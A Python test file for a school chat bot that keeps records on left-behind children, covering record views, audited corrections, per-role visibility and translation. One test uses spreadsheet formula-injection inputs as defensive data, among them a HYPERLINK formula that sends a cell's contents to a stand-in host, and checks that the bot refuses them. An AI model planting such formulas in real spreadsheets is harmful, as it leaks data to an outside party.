"""/card (档案), its corrections, /card alone (completeness) and /talks (谈心记录), as each person types them."""

from __future__ import annotations

from datetime import UTC, date, datetime

import pytest
from sqlalchemy import select, text

from bot.domain.enums import RelationKind, TalkKind
from bot.domain.privacy import AuditAction
from bot.messages import payloads
from bot.store.models import AuditEntry, Checkin, Child, ChildRelation, Person, RecordChange, School, TalkRecord
from tests.support.chat import Chat
from tests.support.school import ACCOUNTS, small_school


def _starting(chat: Chat, prefix: str) -> str:
    """The payload of the button whose label starts with ``prefix`` (namesakes carry their details)."""
    return next(payload for label, payload in chat.choices if label.startswith(prefix))


@pytest.fixture
def school(uow_factory, clock):
    ids = small_school(uow_factory, clock.now())
    with uow_factory() as uow:
        child = uow.session.get(Child, ids.zhang_a)
        child.gender, child.birth_date, child.address = "男", date(2016, 3, 4), "青山村2组27号"
        child.left_behind_type, child.schooling = "父母双方外出", "小学"
        uow.session.get(Person, ids.grandpa).phone = "+8613800136956"
        rel = uow.session.scalar(select(ChildRelation).where(ChildRelation.person_id == ids.grandpa))
        rel.relationship_label = "祖父"
        uow.commit()
    return ids


def test_class_teacher_sees_the_whole_card_and_what_is_missing(flows, school):
    li = Chat(flows, ACCOUNTS["li"])
    li.send("档案 张三")
    shown = li.text
    assert "张三的档案（三年级1班）：" in shown
    assert "• 班主任：李老师" in shown
    assert "• 现居住地：青山村2组27号" in shown and "• 出生日期：" in shown
    assert "• 委托监护人：张爷爷（祖父）138 0013 6956" in shown
    assert "• 帮扶教师：陈老师" in shown
    assert "• 尚无爱心家长、学习伙伴" in shown
    assert "登记表缺少：" in shown and "民族" in shown and "父母联系电话" in shown
    assert "更正住址" in [label for label, _ in li.choices]


def test_corrections_are_saved_recorded_and_bad_input_loses_nothing(flows, school, uow_factory, clock):
    li = Chat(flows, ACCOUNTS["li"])
    li.send("/card 张三")
    li.tap("更正住址")
    assert "张三的新住址：" in li.text
    li.send("报告 青山村3组1号")  # prose: a keyword at the start is part of the address
    assert "已保存，修改已记录。" in li.text and "• 现居住地：报告 青山村3组1号" in li.text
    li.tap("更正监护人电话")
    li.send("12345")
    assert "格式不对" in li.text and "监护人的新电话号码（张三）：" in li.text
    li.send("139 0000 1234")  # shown old → new, naming whose number it is; saved only when confirmed
    assert "更改张三的监护人张爷爷的电话：138 0013 6956 → 139 0000 1234？" in li.text
    assert [label for label, _ in li.choices] == ["保存", "重新输入", "取消"]
    li.tap("保存")
    assert "张爷爷（祖父）139 0000 1234" in li.text
    li.tap("更换学习伙伴")
    li.send("王七")
    assert "本校没有合适的人叫这个名字" in li.text
    li.send("李四")
    assert "• 学习伙伴：李四" in li.text
    with uow_factory() as uow:
        changes = uow.session.scalars(select(RecordChange).order_by(RecordChange.id)).all()
        assert [(c.subject, c.field, c.old_value, c.new_value, c.changed_by_id, c.source) for c in changes] == [
            ("child", "address", "青山村2组27号", "报告 青山村3组1号", school.li, "chat"),
            ("person", "phone", "+8613800136956", "+8613900001234", school.li, "chat"),
            ("relation", "study_buddy", None, "李四", school.li, "chat"),
        ]
        raw = uow.session.execute(text("SELECT old_value, new_value FROM record_changes")).all()
        assert not any(v and ("青山村" in v or "1380013" in v) for row in raw for v in row)  # encrypted at rest
        actions = uow.session.scalars(select(AuditEntry.action).where(AuditEntry.child_id == school.zhang_a)
                                      .order_by(AuditEntry.id)).all()
    assert actions == [AuditAction.VIEW_CARD] + [AuditAction.CARD_CORRECTED, AuditAction.VIEW_CARD] * 3
    li.send("/talks 张三")
    with uow_factory() as uow:
        assert uow.session.scalars(select(AuditEntry.action).order_by(AuditEntry.id.desc())).first() == (
            AuditAction.VIEW_TALKS)


def test_a_new_guardian_ends_the_old_guardians_check_in(flows, school, uow_factory):
    grandpa = Chat(flows, ACCOUNTS["grandpa"])
    li = Chat(flows, ACCOUNTS["li"])
    li.send("/card 张三")
    li.tap("更换委托监护人")
    li.send("张桂英")
    assert "格式不对" in li.text
    li.send("张桂英 13800001111 外祖母")
    assert "• 委托监护人：张桂英（外祖母）138 0000 1111" in li.text
    assert "张爷爷" not in li.text
    with uow_factory() as uow:
        assert uow.session.get(Checkin, school.checkin).cancelled_at is not None
        new = uow.session.scalar(select(Person).where(Person.name == "张桂英"))
        assert "guardian" in new.role_set
    grandpa.press(payloads.checkin_answer(school.checkin, "good"))
    assert "您已不再登记为张三的委托监护人" in grandpa.text


def test_each_person_sees_their_part(flows, school):
    chen = Chat(flows, ACCOUNTS["chen"])  # paired with both namesakes
    chen.send("/card 张三")
    assert "有2个孩子叫张三，您指的是哪一个？" in chen.text
    chen.press(_starting(chen, "张三（三年级1班"))
    assert "张三的档案（三年级1班）：" in chen.text
    assert "• 委托监护人：张爷爷（祖父）138 0013 6956" in chen.text
    assert "现居住地" not in chen.text and "登记表缺少" not in chen.text and chen.choices == []
    grandpa = Chat(flows, ACCOUNTS["grandpa"])
    grandpa.send("/card 张三")
    assert "张三的档案（三年级1班）：" in grandpa.text and "• 班主任：李老师" in grandpa.text
    assert "现居住地" not in grandpa.text and "138 0013 6956" not in grandpa.text and grandpa.choices == []
    wang = Chat(flows, ACCOUNTS["wang"])  # another class's teacher: the same answer as an unknown name
    wang.send("/card 李四")
    unknown = wang.text
    wang.send("/card 无此人")
    assert unknown.replace("李四", "X") == wang.text.replace("无此人", "X")
    grandpa.send("/talks 张三")
    assert "谈心记录只供孩子的老师查看，家长不能使用 /talks。" in grandpa.text  # fix9n: /card is hers


def test_talk_history_and_the_talk_kind_follows_the_relation(flows, school, uow_factory):
    _started_on_1_november(uow_factory)
    with uow_factory() as uow:  # 王老师, class teacher of 三年级2班, is also 张三 (A)'s helper teacher
        uow.session.add(ChildRelation(child_id=school.zhang_a, kind=RelationKind.HELPER_TEACHER.value,
                                      person_id=school.wang))
        uow.commit()
    wang = Chat(flows, ACCOUNTS["wang"])
    wang.send("谈心 张三")
    wang.press(_starting(wang, "张三（三年级1班"))
    for label in ("好", "一般", "好", "没有"):
        wang.tap(label)
    wang.send("聊了学习")
    wang.tap("不需要跟进")
    wang.tap("保存")
    with uow_factory() as uow:
        [record] = uow.session.scalars(select(TalkRecord)).all()
        assert record.kind == TalkKind.VOLUNTEER_WEEKLY.value
    li = Chat(flows, ACCOUNTS["li"])
    li.send("/due")
    assert "张三（三年级1班）：每月谈心" in li.text  # the class teacher's monthly talk is still due
    li.send("谈心记录 张三")
    assert "与张三的谈心记录（共1次，显示最近1次）：" in li.text
    assert "每周谈心（王老师）：情绪好，学习一般，生活好" in li.text and "“聊了学习”" in li.text


def test_completeness_per_class(flows, school):
    li = Chat(flows, ACCOUNTS["li"])
    li.send("/card")
    assert "一人一档：3份档案中0份完整。" in li.text
    assert "• 三年级1班：3份中0份完整，3名儿童结对不全" in li.text
    assert "  李四：性别" in li.text
    admin = Chat(flows, ACCOUNTS["admin"])
    admin.send("档案")
    assert "一人一档：5份档案中0份完整。" in admin.text and "• 三年级2班：2份中0份完整" in admin.text
    grandpa = Chat(flows, ACCOUNTS["grandpa"])
    grandpa.send("/card")
    assert "请加上孩子的姓名" in grandpa.text


def test_the_forms_fixed_words_are_read_in_the_readers_language(flows, school, uow_factory):
    """性别, 民族, 身体情况, 留守类型, 监护评估, 家庭收入, 资助: the form's terms in English; typed text stays."""
    with uow_factory() as uow:
        child = uow.session.get(Child, school.zhang_a)
        child.ethnicity, child.health, child.guardianship_assessment = "苗族", "患病", "一般"
        child.family_income, child.aid = "打工收入、种养殖业", "享受低保，医疗救助"
        other = uow.session.get(Child, school.li_si)
        other.gender, other.health, other.left_behind_type = "女", "患病（哮喘）", "母亲外出、父亲无监护能力"
        uow.commit()
    li = Chat(flows, ACCOUNTS["li"])
    li.send("档案 张三")
    for line in ("• 性别：男", "• 民族：苗族", "• 就学情况：小学", "• 身体情况：患病", "• 留守类型：父母双方外出",
                 "• 监护情况评估：一般", "• 家庭经济来源：打工收入、种养殖业", "• 救助帮扶情况：享受低保、医疗救助",
                 "• 现居住地：青山村2组27号"):
        assert line in li.text, line
    li.send("/lang")
    li.tap("English")
    li.send("/card 张三")
    shown = li.text
    for line in ("• gender: male", "• ethnicity: Miao", "• schooling: primary school", "• health: ill",
                 "• left-behind type: both parents away", "• guardianship assessment: fair",
                 "• family income: wages from work away, farming and livestock",
                 "• aid: receives the minimum living allowance, medical assistance",
                 "• address: 青山村2组27号"):  # free text the school typed stays as typed
        assert line in shown, line
    assert li.choices[0][0] == "Correct the address"  # the card still offers its corrections
    li.send("/card 李四")
    assert "• gender: female" in li.text and "• left-behind type: mother away, father unable to guard" in li.text
    assert "• health: 患病（哮喘）" in li.text  # not one of the form's words: as the school typed it


def test_a_correction_the_roster_import_would_refuse_is_refused_and_asked_again(flows, school, uow_factory):
    """A name typed as a live formula (it would sit next to the invite codes in the sheet) never reaches the card."""
    li = Chat(flows, ACCOUNTS["li"])
    li.send("/card 张三")
    li.tap("更换委托监护人")
    li.send('=HYPERLINK("http://x.example/?c="&E4,"点我") 13800001111 外祖母')
    assert "的开头像电子表格公式：单元格不能以 =、+、- 或 @ 开头" in li.text
    assert "已保存" not in li.text and "张三的新委托监护人：" in li.text  # the question again, nothing lost
    li.send("张桂英 13800001111 " + "外" * 33)  # the relation's column holds 32 characters
    assert "超过 32 个字符" in li.text and "张三的新委托监护人：" in li.text
    li.send("张桂英 ＝13800001111 外祖母")  # a full-width = before the number is a formula too
    assert "的开头像电子表格公式" in li.text
    li.send("张 桂英 13800001111 外祖母")  # a register's padded name, as the import reads it
    assert "已保存，修改已记录。" in li.text and "• 委托监护人：张桂英（外祖母）138 0000 1111" in li.text
    li.tap("更正住址")
    li.send("-1+HYPERLINK(\"http://x.example\")")
    assert "的开头像电子表格公式" in li.text and "张三的新住址：" in li.text
    with uow_factory() as uow:
        uow.session.get(Person, school.li).locale = "en"
        uow.commit()
    li.send("@SUM(1,2)")
    assert "no cell may start with =, +, - or @ (only a phone number may be written +86…" in li.text
    with uow_factory() as uow:
        changes = uow.session.scalars(select(RecordChange.new_value)).all()
        names = uow.session.scalars(select(Person.name)).all()
    assert changes == ["张桂英 +8613800001111"]
    assert not any(n.lstrip().startswith(("=", "＝", "-", "@")) for n in names)


def _started_on_1_november(uow_factory) -> None:
    """The school has used the bot since 1 November: November's monthly talks are owed (issue 9: a month the
    school started with fewer than 7 days left is not, and the fixture binds everyone on 30 November)."""
    with uow_factory() as uow:
        for row in uow.session.scalars(select(School)):
            row.started_at = datetime(2026, 11, 1, 1, 0, tzinfo=UTC)
        uow.commit()
